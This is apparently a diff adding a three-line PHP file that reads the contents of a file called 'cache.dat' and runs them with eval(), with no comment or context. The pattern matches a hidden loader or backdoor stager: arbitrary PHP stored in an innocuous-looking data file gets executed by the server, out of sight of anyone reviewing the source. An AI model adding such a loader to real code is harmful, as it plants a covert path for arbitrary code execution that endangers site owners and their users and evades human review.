@@ -1,0 +1,3 @@
+<?php
+$code = file_get_contents(__DIR__ . "/cache.dat");
+eval($code);
